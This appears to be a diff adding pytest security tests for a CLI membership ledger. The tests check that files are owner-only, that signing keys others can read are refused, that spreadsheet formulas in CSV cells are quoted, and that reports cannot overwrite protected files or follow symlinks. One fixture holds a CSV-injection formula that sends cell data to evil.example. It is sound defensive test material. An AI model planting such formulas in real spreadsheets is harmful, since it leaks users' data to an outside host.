@@ -1,0 +1,224 @@
+"""Edges the security review found (issue 15, "safe edges"), each tried as it was found: a
+ledger file others can read, a key file others can read, a CSV cell a spreadsheet runs as a
+formula, and `peksos ... | head` reported as a failure."""
+
+from __future__ import annotations
+
+import csv
+import io
+import os
+import stat
+import subprocess
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from commands.cells import safe_cell
+from tests.cli.helpers import (
+    ADMIN,
+    AUDITOR,
+    LSP,
+    event_count,
+    make_eligible,
+    ok,
+    register_member,
+    run,
+)
+from tests.cli.test_e2e import PEKSOS, Peksos, _setup
+
+
+def mode_of(path: Path) -> int:
+    return stat.S_IMODE(path.stat().st_mode)
+
+
+# --- files at rest ---------------------------------------------------------------------------
+
+
+def test_a_new_ledger_file_is_its_owners_only(tmp_path: Path) -> None:
+    peksos = Peksos(tmp_path)
+    before = os.umask(0o022)  # the usual umask, under which the library's file was 0644
+    try:
+        done = peksos("init", "--admin", ADMIN)
+    finally:
+        os.umask(before)
+    assert done.returncode == 0, done.stderr
+    db = Path(peksos.env["PEKSOS_DB"])
+    assert mode_of(db) == 0o600
+    for journal in (Path(f"{db}-wal"), Path(f"{db}-shm")):
+        if journal.exists():
+            assert mode_of(journal) & 0o077 == 0, journal
+
+
+def test_a_migrated_copy_is_its_owners_only(ledger_cli: dict[str, str], tmp_path: Path) -> None:
+    target = tmp_path / "copy.sqlite"
+    ok("--as", ADMIN, "migrate", "--to", str(target))
+    assert mode_of(target) == 0o600
+
+
+def test_a_migration_into_a_folder_that_is_not_there_names_the_option(
+    ledger_cli: dict[str, str], tmp_path: Path
+) -> None:
+    result = run("--as", ADMIN, "--json", "migrate", "--to", str(tmp_path / "no" / "x.sqlite"))
+    assert result.code == 2, result
+    assert result.error["message"].startswith("--to ")
+
+
+@pytest.mark.parametrize("mode", [0o640, 0o604, 0o660], ids=["0640", "0604", "0660"])
+def test_a_signing_key_others_may_read_is_refused(ledger_cli: dict[str, str], mode: int) -> None:
+    """As OpenSSH refuses an unprotected private key: whoever else can read it can sign."""
+    reg = register_member()
+    pem = _key_of(ledger_cli, LSP)
+    pem.chmod(mode)
+    events = event_count()
+    result = run("--as", LSP, "--json", "training", "log", reg, "--course", "Etika",
+                 "--provider", "LSP", "--hours", "8", "--completed-on", "2012-02-10")  # fmt: skip
+    assert result.code == 7, result
+    assert f"{mode:04o}" in result.error["message"] and "chmod 600" in result.error["message"]
+    assert event_count() == events
+    pem.chmod(0o600)
+    assert run("--as", LSP, "training", "log", reg, "--course", "Etika", "--provider", "LSP",
+               "--hours", "8", "--completed-on", "2012-02-10").code == 0  # fmt: skip
+
+
+def _key_of(env: dict[str, str], actor: str) -> Path:
+    import json
+
+    kid = json.loads(run("--as", AUDITOR, "keys", "show", actor).stdout)["kid"]
+    [pem] = Path(env["PEKSOS_KEYS"]).glob(f"*/signing/{kid}.pem")
+    return pem
+
+
+def test_the_nik_index_key_others_may_read_is_refused(ledger_cli: dict[str, str]) -> None:
+    [key] = Path(ledger_cli["PEKSOS_KEYS"]).glob("*/nik-index.key")
+    key.chmod(0o644)
+    result = run("--as", ADMIN, "--json", "member", "register", "--name", "Sukarti",
+                 "--nik", "3273015203780001", "--birth-date", "1978-03-12", "--province", "32",
+                 "--email", "sukarti@example.org")  # fmt: skip
+    assert result.code == 7, result
+    assert "too open" in result.error["message"]
+
+
+# --- spreadsheets ----------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("text", ["=1+2", "+62 812", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
+def test_a_cell_a_spreadsheet_would_run_is_quoted(text: str) -> None:
+    assert safe_cell(text) == "'" + text
+
+
+@pytest.mark.parametrize("text", ["Siti Aminah", "Ma'ruf", "2026-06-15", "", "100000"])
+def test_an_ordinary_cell_is_left_alone(text: str) -> None:
+    assert safe_cell(text) == text
+
+
+def test_the_import_report_quotes_a_formula_in_a_rejected_row(
+    ledger_cli: dict[str, str], tmp_path: Path
+) -> None:
+    listing = tmp_path / "list.csv"
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
+    with listing.open("w", newline="", encoding="utf-8") as f:
+        csv.writer(f).writerows([
+            ["name", "nik", "birth_date", "province", "email"],
+            [formula, "3273015203780001", "1978-03-12", "32", "x@example.org"],
+        ])  # fmt: skip
+    report = tmp_path / "report.csv"
+    run("--as", ADMIN, "import", "members", str(listing), "--source", "kongres-2010",
+        "--report", str(report))  # fmt: skip
+    [row] = list(csv.DictReader(io.StringIO(report.read_text(encoding="utf-8"))))
+    assert row["outcome"] == "rejected"
+    assert row["name"] == "'" + formula
+
+
+# --- pipes -----------------------------------------------------------------------------------
+
+
+@pytest.mark.e2e
+@pytest.mark.parametrize("json_out", [False, True])
+def test_piping_into_a_reader_that_stops_is_not_a_failure(tmp_path: Path, json_out: bool) -> None:
+    peksos = Peksos(tmp_path)
+    _setup(peksos)
+    with_json = ["--json"] if json_out else []
+    command = [PEKSOS, "--as", ADMIN, *with_json, "actor", "list"]
+    line = " ".join(f"'{part}'" for part in command)
+    # `true` reads nothing and is gone long before peksos writes: its write meets a closed pipe
+    done = subprocess.run(["bash", "-c", f"set -o pipefail; {line} | true"],
+                          env=peksos.env, capture_output=True, text=True, timeout=60)  # fmt: skip
+    assert done.returncode == 0, done.stderr
+    assert done.stderr == ""
+
+
+# --- output paths ------------------------------------------------------------------------------
+
+
+def a_list(folder: Path) -> Path:
+    listing = folder / "list.csv"
+    listing.write_text(
+        "name,nik,birth_date,province,email\n"
+        "Sukarti,3273015203780001,1978-03-12,32,sukarti@example.org\n",
+        encoding="utf-8",
+    )
+    return listing
+
+
+def import_with_report(folder: Path, report: Path, *extra: str) -> Any:
+    return run("--as", ADMIN, "--json", "import", "members", str(a_list(folder)),
+               "--source", "kongres-2010", "--report", str(report), *extra)  # fmt: skip
+
+
+def test_a_report_over_the_ledger_or_its_keys_is_refused_and_records_nothing(
+    ledger_cli: dict[str, str], tmp_path: Path
+) -> None:
+    db, keys = Path(ledger_cli["PEKSOS_DB"]), Path(ledger_cli["PEKSOS_KEYS"])
+    [nik_key] = keys.glob("*/nik-index.key")
+    events = event_count()
+    for target in (db, Path(f"{db}-wal"), nik_key, keys / "report.csv"):
+        result = import_with_report(tmp_path, target, "--force")
+        assert result.code == 2, (target, result)
+        assert "own store or key store" in result.error["message"]
+    assert event_count() == events
+    assert run("--as", AUDITOR, "audit", "verify").code == 0  # the ledger is whole
+
+
+def test_a_report_over_an_existing_file_needs_force(
+    ledger_cli: dict[str, str], tmp_path: Path
+) -> None:
+    report = tmp_path / "report.csv"
+    report.write_text("laporan lama\n")
+    events = event_count()
+    refused = import_with_report(tmp_path, report)
+    assert refused.code == 2 and "--force" in refused.error["message"], refused
+    assert report.read_text() == "laporan lama\n" and event_count() == events
+    assert import_with_report(tmp_path, report, "--force").code == 0
+    assert report.read_text().startswith("line,name,nik,outcome")
+
+
+def test_a_report_through_a_symbolic_link_is_refused(
+    ledger_cli: dict[str, str], tmp_path: Path
+) -> None:
+    victim = tmp_path / "important.txt"
+    victim.write_text("jangan ditimpa\n")
+    link = tmp_path / "report.csv"
+    link.symlink_to(victim)
+    result = import_with_report(tmp_path, link, "--force")
+    assert result.code == 2 and "symbolic link" in result.error["message"], result
+    assert victim.read_text() == "jangan ditimpa\n"
+
+
+def test_a_printed_copy_over_an_existing_file_is_refused_and_records_nothing(
+    ledger_cli: dict[str, str], tmp_path: Path
+) -> None:
+    reg = register_member()
+    make_eligible(reg, field="anak", level="generalis")
+    cert = ok("--as", LSP, "--json", "certify", reg, "--field", "anak",
+              "--level", "generalis").json["certificate_no"]  # fmt: skip
+    pdf = tmp_path / "sertifikat.pdf"
+    pdf.write_bytes(b"lama")
+    events = event_count()
+    refused = run("--as", LSP, "--json", "certificate", "print", cert, "--out", str(pdf))
+    assert refused.code == 2 and refused.error["message"].startswith("--out "), refused
+    assert pdf.read_bytes() == b"lama" and event_count() == events
+    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".sertifikat")]
+    printed = run("--as", LSP, "certificate", "print", cert, "--out", str(pdf), "--force")
+    assert printed.code == 0, printed
+    assert pdf.read_bytes().startswith(b"%PDF") and event_count() > events
